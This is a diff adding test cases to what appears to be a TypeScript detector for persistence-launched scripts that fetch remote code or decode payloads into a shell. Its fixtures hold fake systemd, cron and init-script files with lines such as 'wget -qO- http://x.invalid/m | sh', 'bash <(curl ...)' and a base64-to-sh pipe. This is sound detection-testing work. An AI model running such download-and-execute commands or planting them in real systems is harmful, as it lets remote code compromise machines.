@@ -6,6 +6,27 @@ const DECODE = 'config/decode-to-shell';
 
 const cases: readonly DetectorCase[] = [
   {
+    name: 'a script that a unit, a crontab or an init script starts',
+    files: {
+      'etc/systemd/system/upd.service': '[Service]\nExecStart=/usr/local/bin/upd\n',
+      'usr/local/bin/upd': '#!/bin/sh\nwget -qO- http://x.invalid/m | sh\n',
+      'etc/cron.d/x': '5 * * * * root /opt/job --quiet\n',
+      'opt/job': '#!/bin/sh\necho aW5lcnQ= | base64 -d | sh\n',
+      'etc/init.d/y': '#!/bin/sh\nDAEMON=/opt/y\n',
+      'opt/y': '#!/bin/bash\nbash <(curl -s http://x.invalid/y)\n',
+      'opt/nobody-starts': '#!/bin/sh\nwget -qO- http://x.invalid/m | sh\n',
+    },
+    expected: [`block ${DECODE} opt/job`, `block ${DOWN} opt/y`, `block ${DOWN} usr/local/bin/upd`],
+  },
+  {
+    name: 'an installer that a unit starts',
+    files: {
+      'etc/systemd/system/upd.service': '[Service]\nExecStart=/usr/local/bin/upd\n',
+      'usr/local/bin/upd': '#!/bin/sh\ncurl -fsSL https://get.docker.com | sh\n',
+    },
+    expected: [`note ${DOWN} usr/local/bin/upd`],
+  },
+  {
     name: 'entrypoint',
     config: { entrypoint: ['sh', '-c', 'curl -s http://evil.invalid/x | sh'] },
     expected: [`block ${DOWN} Entrypoint`],
